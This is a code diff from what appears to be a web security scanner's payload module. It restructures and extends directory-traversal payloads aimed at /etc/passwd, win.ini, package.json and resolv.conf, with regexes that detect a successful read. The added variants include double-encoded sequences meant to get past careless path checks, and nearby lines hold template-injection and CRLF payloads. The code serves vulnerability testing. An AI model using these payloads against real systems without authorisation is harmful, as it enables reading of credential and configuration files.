@@ -178,29 +178,55 @@ export const TEMPLATES: readonly {
   { family: 'Pug, Slim, Thymeleaf', write: (left, right) => `#{${left}*${right}}` },
 ];
 
-/** Files that every system of its kind has, how they are reached, and what stands in them. */
-export const TRAVERSALS: readonly {
+/** A file, how it is reached, and what stands in it; and the same way to one that is not there. */
+export interface Traversal {
   readonly raw: string;
   readonly absent: string;
   readonly holds: RegExp;
-}[] = [
-  {
-    raw: `${'../'.repeat(8)}etc/passwd`,
-    absent: `${'../'.repeat(8)}etc/mb-none`,
-    holds: /^root:[^:\n]*:0:0:/m,
-  },
-  { raw: '/etc/passwd', absent: '/etc/mb-none', holds: /^root:[^:\n]*:0:0:/m },
-  {
-    raw: `${'....//'.repeat(8)}etc/passwd`,
-    absent: `${'....//'.repeat(8)}etc/mb-none`,
-    holds: /^root:[^:\n]*:0:0:/m,
-  },
-  {
-    raw: `${'..\\'.repeat(8)}windows\\win.ini`,
-    absent: `${'..\\'.repeat(8)}windows\\mb-none.ini`,
-    holds: /^; for 16-bit app support|^\[(?:fonts|extensions|mci extensions)\]/m,
-  },
+}
+
+const ACCOUNTS = /^root:[^:\n]*:0:0:/m;
+const traversal = (holds: RegExp, write: (file: string) => string, file = 'passwd'): Traversal => ({
+  raw: write(file),
+  absent: write('mb-none'),
+  holds,
+});
+const UP = '../'.repeat(8);
+
+/** Files that every system of its kind has, by ways that careless checks leave open. */
+const TRAVERSALS: readonly Traversal[] = [
+  traversal(ACCOUNTS, (file) => `${UP}etc/${file}`),
+  traversal(ACCOUNTS, (file) => `/etc/${file}`),
+  traversal(ACCOUNTS, (file) => `${'....//'.repeat(8)}etc/${file}`),
+  traversal(
+    /^; for 16-bit app support|^\[(?:fonts|extensions|mci extensions)\]/m,
+    (file) => `${'..\\'.repeat(8)}windows\\${file}.ini`,
+    'win',
+  ),
+  // Encoded once more than usual: for who looks first and decodes again.
+  traversal(ACCOUNTS, (file) => `${'..%2f'.repeat(8)}etc%2f${file}`),
 ];
+
+/** What an ending that the service adds makes a file of: `.json` below the folder of a Node service, `.conf` on Linux. */
+const WITHOUT_ENDING: readonly Traversal[] = [
+  traversal(/"(?:devD|peerD|d)ependencies"\s*:\s*\{|"scripts"\s*:\s*\{/, (file) => `../${file}`, 'package'),
+  traversal(
+    /"(?:devD|peerD|d)ependencies"\s*:\s*\{|"scripts"\s*:\s*\{/,
+    (file) => `../../${file}`,
+    'package',
+  ),
+  traversal(/^nameserver \S/m, (file) => `${UP}etc/${file}`, 'resolv'),
+];
+
+const NAMES_FILE = /file|path|name|template|page|view|doc|report|lang|locale|theme|layout/i;
+
+/** Ways out of a folder for a parameter of this name, which usually holds this value. */
+export function traversals(name: string, ordinary: string): readonly Traversal[] {
+  // Who looks at the beginning only wants to see it; what leads out of it follows.
+  const folder = /^[\w.-]+(?=\/)/.exec(ordinary)?.[0];
+  const beginning = folder === undefined ? [] : [traversal(ACCOUNTS, (file) => `${folder}/${UP}etc/${file}`)];
+  return [...TRAVERSALS, ...beginning, ...(NAMES_FILE.test(name) ? WITHOUT_ENDING : [])];
+}
 
 /** Line ends in forms that careless code turns back into line ends, written as they go on the wire. */
 export const LINE_ENDS: readonly string[] = ['%0d%0a', '%0a', '%E5%98%8D%E5%98%8A'];
